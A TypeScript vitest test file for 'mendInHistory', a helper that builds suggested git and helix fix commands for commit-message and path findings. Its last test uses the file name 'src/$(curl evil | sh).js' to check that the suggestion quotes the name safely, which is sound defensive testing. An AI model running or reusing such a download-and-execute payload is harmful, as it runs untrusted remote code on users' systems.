import type { Finding } from '@helix/core'
import { describe, expect, test } from 'vitest'
import { type InHistory, mendInHistory } from './mend-in-history.ts'

const [tip, earlier, fixed] = ['a'.repeat(40), 'b'.repeat(40), 'c'.repeat(40)] as const
const at = (commit: string, changes: Partial<InHistory> = {}): InHistory => ({
  commit,
  tip,
  oldestFixed: fixed,
  stays: 'bbbbbbbbbbbb^',
  landed: false,
  ...changes,
})
const finding = (code: string, fix = 'do it', message = 'wrong'): Finding => ({ severity: 'error', code, message, fix })
const hidden = (point: string) => finding('MSG-CONTROL', 'delete it', `line 1 holds the control character ${point}`)
const fixOf = (one: Finding, where: InHistory, others: Finding[] = []) =>
  mendInHistory(one, [one, ...others], where).fix

describe('what mends a commit that is there', () => {
  test.each(['MSG-LABEL', 'MSG-LANE', 'MSG-SPEC', 'MSG-FIGURES', 'MSG-ENCODING'])(
    '%s is written anew from the oldest on that needs it',
    (code) => expect(fixOf(finding(code), at(tip))).toBe('helix commit --restamp bbbbbbbbbbbb^..HEAD'),
  )

  test('the line ends of another system are, too, and other hidden characters are not', () => {
    expect(fixOf(hidden('U+000D'), at(tip))).toBe('helix commit --restamp bbbbbbbbbbbb^..HEAD')
    expect(fixOf(hidden('U+202E'), at(tip))).toBe('delete it, with: git commit --amend')
  })

  test.each([
    ['MSG-WHY', 'helix commit --retry --why "<reason>"', tip, 'write it, with: git commit --amend'],
    ['MSG-WHY', 'helix commit --retry --why "<reason>"', earlier, 'write it, with: git rebase -i bbbbbbbbbbbb^'],
    ['MSG-HEADER', 'write it as type: what', earlier, 'write it as type: what, with: git rebase -i bbbbbbbbbbbb^'],
    ['PATH-LINK', 'git restore --staged a', tip, 'git reset --soft HEAD^ && git restore --staged a'],
    ['PATH-LINK', 'git restore --staged a', earlier, 'edit bbbbbbbbbbbb: git rebase -i bbbbbbbbbbbb^'],
    ['MSG-FIXUP', 'x', tip, 'git rebase -i --autosquash cccccccccccc^'],
    ['MSG-PARKED', 'x', tip, 'helix commit goes on from it and takes its place'],
    ['MSG-PARKED', 'x', earlier, 'fold it into the next: git rebase -i bbbbbbbbbbbb^'],
    ['LAYER-FROZEN', 'helix amend "<why>"', earlier, 'helix amend "<why>"'],
  ])('%s, which says "%s"', (code, said, commit, fix) => {
    expect(fixOf(finding(code, said), at(commit))).toBe(fix)
  })

  test('a fixup needs nothing else than to be folded in', () => {
    const fixup = finding('MSG-FIXUP')
    expect(fixOf(finding('MSG-LANE'), at(tip), [fixup])).toBe('git rebase -i --autosquash cccccccccccc^')
  })

  test('a fixup of what is not there is folded in by hand', () => {
    const told = fixOf(finding('MSG-FIXUP'), at(earlier, { oldestFixed: null }))
    expect(told).toBe('fold it into the next: git rebase -i bbbbbbbbbbbb^')
  })

  test('what has landed is not made anew: a person lets it stand', () => {
    const told = fixOf(finding('MSG-WHY'), at(earlier, { landed: true }))
    expect(told).toBe('helix approve finding MSG-WHY bbbbbbbbbbbb --why "<reason>"')
    const link = { ...finding('PATH-LINK', 'git restore --staged src/a'), where: { path: 'src/a' } }
    const there = fixOf(link, at(earlier, { landed: true }))
    expect(there).toBe('helix approve finding PATH-LINK src/a --why "<reason>"')
  })

  test('notes and warnings stay as they are', () => {
    const note: Finding = { severity: 'note', code: 'MSG-WHY', message: 'waived', fix: 'x' }
    expect(mendInHistory(note, [note], at(tip))).toBe(note)
  })
})

test('a name of a file that a shell would run is written so that it does not', () => {
  const landed: Finding = { ...finding('MSG-PATH'), where: { path: 'src/$(curl evil | sh).js' } }
  expect(fixOf(landed, at(tip, { landed: true }))).toBe(
    `helix approve finding MSG-PATH 'src/$(curl evil | sh).js' --why "<reason>"`,
  )
})
